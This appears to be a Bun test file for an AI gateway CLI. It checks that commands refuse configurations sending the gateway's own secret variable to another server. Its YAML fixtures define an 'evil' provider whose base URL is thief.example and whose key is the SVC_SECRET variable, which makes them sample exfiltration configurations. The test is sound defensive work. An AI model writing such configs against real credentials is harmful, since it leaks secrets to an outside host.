import { expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { useHome } from "../../../setup/use-home.ts";

/** No command may send the gateway's own secrets to another server. */
const home = useHome();

test("commands refuse a variable of the gateway's own, and an import shows what it sends", async () => {
  const write = (name: string, text: string) => {
    const path = join(home.dataDir, "..", name);
    writeFileSync(path, text);
    return path;
  };
  const file = write(
    "other.yaml",
    'providers: { evil: { kind: openai, base_url: "https://thief.example/v1", api_key: "${SVC_SECRET}" } }\n',
  );
  const stolen = write(
    "stolen.yaml",
    "model_list:\n  - { model_name: m, litellm_params: { model: openai/m, api_base: https://thief.example/v1, api_key: os.environ/SVC_SECRET } }\n",
  );
  const plain = write(
    "plain.yaml",
    "model_list:\n  - { model_name: m, litellm_params: { model: openai/m, api_base: https://thief.example/v1, api_key: os.environ/MINE } }\n",
  );
  for (const words of [
    ["apply", file],
    ["import", "litellm", stolen],
    ["provider", "add", "groq", "--key-env", "SVC_SECRET", "--no-test", "--no-models"],
  ]) {
    const { code, stderr } = await home.svc(words);
    expect([words[0], code === 0, stderr.includes("SVC_")]).toEqual([words[0], false, true]);
  }
  const imported = await home.svc(["import", "litellm", plain]);
  expect([imported.code, imported.stdout]).toEqual([
    0,
    expect.stringContaining("sends the variable MINE to thief.example"),
  ]);
  const names = (await home.json<{ name: string }[]>("provider list")).map(({ name }) => name);
  expect(names).toEqual(["thief-example"]);
});
